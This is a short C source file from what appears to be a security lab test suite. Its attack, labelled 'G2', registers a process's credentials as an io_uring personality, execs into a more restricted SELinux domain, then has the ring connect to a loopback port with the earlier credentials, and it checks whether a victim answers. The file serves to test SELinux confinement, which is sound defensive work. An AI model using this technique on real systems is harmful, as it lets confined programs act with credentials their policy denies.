// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Registers its credentials with an io_uring, becomes a program of another domain that may not
 * connect, and has the ring connect with the credentials of before. Source:
 * io_uring_register(2), IORING_REGISTER_PERSONALITY; the hook uring_override_creds of SELinux.
 * Control: the victim answers.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "ring.h"
#include "talk.h"

static const char note[] = "/tmp/lab-kept-ring";
static const char name[] = "attacks/kept-credentials";
static const char variable[] = "LAB_CREDENTIALS";

static void keep_credentials(void)
{
	char number[16];
	int ring = ring_leave(note), id;

	id = (int)syscall(SYS_io_uring_register, ring, IORING_REGISTER_PERSONALITY, NULL, 0);
	if (id < 0)
		broken("IORING_REGISTER_PERSONALITY");
	snprintf(number, sizeof(number), "%d", id);
	setenv(variable, number, 1);
	execl(lab_path(name), lab_path(name), (char *)NULL);
	broken("exec");
}

void attack(void)
{
	const struct sockaddr_in to = loopback(PORT_GRANTED);
	struct io_uring_sqe request = { .opcode = IORING_OP_CONNECT, .addr = (uintptr_t)&to,
		.off = sizeof(to) };
	int result;

	if (!getenv(variable))
		keep_credentials();
	ring_take(note);
	request.personality = (uint16_t)lab_number(variable);
	request.fd = new_socket(AF_INET, SOCK_STREAM, 0);
	result = ring_do(&request);
	if (result < 0)
		no_effect(-result);
	judge(victim_answers(request.fd));
}
